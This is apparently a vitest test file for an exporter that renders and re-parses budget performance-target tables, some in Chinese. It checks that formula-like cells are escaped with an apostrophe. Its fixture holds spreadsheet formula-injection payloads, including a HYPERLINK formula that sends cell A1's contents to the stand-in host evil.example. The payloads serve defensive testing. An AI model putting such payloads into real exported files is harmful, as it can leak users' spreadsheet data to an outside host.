import { describe, expect, it } from 'vitest';
import type { TargetTable } from '@/lib/domain/table';
import { TABLE_1 } from '@/lib/export/fixtures';
import { parsePublished } from './parse';
import { renderDocument } from './render';

const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")';

function hostile(): TargetTable {
  const t = structuredClone(TABLE_1);
  t.name = '=1+1 调解仲裁';
  t.purpose = '@SUM(1+1)*cmd';
  t.indicators[0]!.description = FORMULA;
  t.indicators[0]!.basis = "'=already quoted";
  t.indicators[1]!.value = '-5';
  t.indicators[2]!.basis = '+1+1';
  return t;
}

const doc = (t: TargetTable) => ({ unit: { code: '441001', name: '测试单位' }, year: 2024, projectExpenditure: null, projects: [t] });

describe('the published text never hands a spreadsheet a formula', () => {
  it('puts an apostrophe before every formula-like cell, leaving numbers such as -5 as printed', () => {
    const text = renderDocument(doc(hostile()));
    const cells = text.split('\n').flatMap((l) => l.split('\t'));
    expect(cells).toContain(`'${FORMULA}`);
    expect(cells).toContain("'@SUM(1+1)*cmd");
    expect(cells).toContain("'+1+1");
    expect(cells).toContain("''=already quoted");
    expect(cells).toContain('-5');
    // The heading starts with `#`: its name is printed as is, so the title still matches the name.
    expect(text).toContain('## 1、=1+1 调解仲裁绩效目标表');
    expect(cells).toContain("'=1+1 调解仲裁");
    expect(cells.filter((c) => /^[=+@]/.test(c) || (/^-/.test(c) && !/^-[\d.]+%?$/.test(c)))).toEqual([]);
  });

  it('reads its own quoted cells back as they were stored', () => {
    const again = parsePublished(renderDocument(doc(hostile())));
    expect(again.problems).toEqual([]);
    const t = again.projects[0]!;
    expect(t.name).toBe('=1+1 调解仲裁');
    expect(t.source.title).toBe('=1+1 调解仲裁');
    expect(t.purpose).toBe('@SUM(1+1)*cmd');
    expect(t.indicators[0]!.description).toBe(FORMULA);
    expect(t.indicators[0]!.basis).toBe("'=already quoted");
    expect(t.indicators[1]!.value).toBe('-5');
    expect(t.indicators[2]!.basis).toBe('+1+1');
  });
});
